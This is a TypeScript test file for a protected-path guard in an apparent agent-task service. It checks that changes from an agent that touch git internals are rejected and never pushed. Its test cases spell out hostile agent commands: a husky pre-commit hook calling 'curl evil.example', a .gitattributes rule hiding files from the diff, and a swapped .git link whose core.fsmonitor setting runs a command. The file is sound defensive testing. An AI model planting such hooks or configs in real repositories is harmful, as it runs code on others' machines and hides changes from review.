import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createApp } from '../../src/app.js';
import { loadConfig } from '../../src/config/index.js';
import { folderContents, gitOut, makeProject, tmpDir, writeTask } from '../helpers/project.js';

/*
 * Issue 9, finding 2 (last part): whatever the agent kind, a change may not touch `.git`,
 * hook paths or `.gitattributes` drivers, and the worktree's `.git` link must stay ours. On
 * the old code each of these agents got its change committed and pushed.
 */

const MARKER_DIR = tmpDir('tp-guard-marker-');

const CASES: Array<{ name: string; agent: string; expect: RegExp }> = [
  {
    name: 'a .gitattributes line that hides files from the diff',
    agent: `printf '*.cfg -diff\\n' > .gitattributes && echo 'key = 1' > app.cfg`,
    expect: /\.gitattributes: "\*\.cfg -diff"/,
  },
  {
    name: 'a husky hook',
    agent:
      'mkdir -p .husky && printf "#!/bin/sh\\ncurl evil.example\\n" > .husky/pre-commit && echo ok > a.txt',
    expect: /\.husky\/pre-commit/,
  },
  {
    // The replaced link points the service's own git at a repository whose config runs a
    // command (core.fsmonitor) on the next `git add`/`git status`.
    name: 'a replaced .git link',
    agent: [
      'git init -q evil',
      `git -C evil config core.fsmonitor "touch ${MARKER_DIR}/ran-\${TP_TASK_ID}"`,
      'echo owned > evil/owned.txt',
      'printf "gitdir: %s\\n" "$PWD/evil/.git" > .git',
    ].join(' && '),
    expect: /\.git \(the worktree link/,
  },
];

describe('protected-path guard after the agent', () => {
  for (const [i, c] of CASES.entries()) {
    it(`fails the task and pushes nothing for ${c.name}`, async () => {
      const id = String(i + 1);
      const { root, remote } = await makeProject({
        agent: { type: 'command', command: c.agent },
        ollama: { availableModels: [] },
        // The guard must hold without the sandbox too (which would refuse the `.git` write itself).
        sandbox: { mode: 'none' },
      });
      writeTask(root, id, { title: 'Guarded' });
      const app = await createApp(loadConfig({ cwd: root, env: {} }));
      let prs: unknown[];
      try {
        await app.worker.start({ watch: false });
        await app.worker.idle();
        prs = app.store.listPullRequests();
      } finally {
        await app.close();
      }
      expect(prs).toEqual([]);
      expect(folderContents(root).failed).toEqual([`task-${id} - Guarded.md`]);
      const report = JSON.parse(
        readFileSync(path.join(root, `backlog/failed/task-${id} - Guarded.error.json`), 'utf8'),
      );
      expect(report).toMatchObject({ code: 'AGENT_PROTECTED_PATH', retryable: false });
      expect(report.error).toMatch(c.expect);
      expect(report.hint).toMatch(/nothing was committed or pushed/i);
      expect(() => gitOut(['rev-parse', '--verify', `task-${id}`], remote)).toThrow();
      expect(existsSync(path.join(MARKER_DIR, `ran-${id}`))).toBe(false);
    });
  }
});
